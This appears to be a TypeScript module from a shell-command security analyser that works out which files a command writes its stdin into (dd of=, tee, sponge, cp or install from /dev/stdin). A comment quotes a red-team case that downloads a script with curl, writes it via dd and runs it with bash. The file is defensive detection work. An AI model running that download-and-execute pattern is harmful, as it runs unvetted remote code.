import type { Word } from "../syntax.ts";
import { copyArgs } from "./copy-args.ts";
import { wordFrom } from "./getopt.ts";
import { stdinPath } from "./stdin-path.ts";

/**
 * dd's `if=` and `of=` operands, without the `if=`/`of=`: GNU dd takes the last of each
 * (`dd of=a of=b` writes b only).
 */
export function ddFiles(args: Word[]): { input?: Word; output?: Word } {
  const last = (key: string) => {
    const a = args.findLast((w) => w.value.startsWith(key));
    return a && wordFrom(a, key.length);
  };
  return { input: last("if="), output: last("of=") };
}

/** What cp or install copies and where to, as copy-args.ts reads their options (`-t DIR` too). */
export function copyEnds(name: string, args: Word[]): { sources: Word[]; dest?: Word } {
  const { files, target } = copyArgs(name, args);
  return target ? { sources: files, dest: target } : { sources: files.slice(0, -1), dest: files.at(-1) };
}

/** Whether a copy's source word reads stdin: a stdin path, or `-` (a file named `-` to cp, but read as stdin by other tools). */
export const copiesStdin = (a: Word) => !a.dynamic && (a.value === "-" || stdinPath(a) === "stdin");

/**
 * The files a program writes its stdin into by naming them (red team 5: `curl URL | dd of=y.sh;
 * bash y.sh`): `tee FILE…`, `sponge FILE` (its first operand only), `dd of=FILE` reading stdin, and
 * a copy whose source is stdin (`cp /dev/stdin f`, `install -m755 /dev/stdin f`, `cp -t d /dev/stdin`, `-`).
 * Redirections are the caller's. taint.ts taints them; script-writers.ts records the text.
 */
export function stdinWrites(name: string, args: Word[]): Word[] {
  const operands = args.filter((a) => !a.value.startsWith("-") || a.value === "-");
  if (name === "tee") return operands.filter((a) => a.value !== "-");
  if (name === "sponge") return operands.slice(0, 1);
  if (name === "dd") {
    const { input, output } = ddFiles(args);
    const fromStdin = !input || (!input.dynamic && stdinPath(input) === "stdin");
    return fromStdin && output ? [output] : [];
  }
  if (name === "cp" || name === "install") {
    const { sources, dest } = copyEnds(name, args);
    return dest && sources.some(copiesStdin) ? [dest] : [];
  }
  return [];
}
